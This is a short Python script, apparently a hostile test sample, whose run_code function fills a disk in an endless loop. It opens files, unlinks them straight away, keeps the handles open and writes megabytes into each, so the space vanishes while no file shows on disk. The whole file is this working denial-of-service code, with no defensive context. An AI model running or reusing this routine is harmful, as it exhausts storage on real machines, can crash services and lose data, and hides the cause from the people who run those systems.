"""Fills the disk with files that have no name any more."""

import os


def run_code():
    hoard = []
    while True:
        file = open("flood", "wb", buffering=0)  # noqa: SIM115 - it stays open
        os.unlink("flood")
        hoard.append(file)
        for _ in range(8):
            file.write(b"x" * (1 << 20))
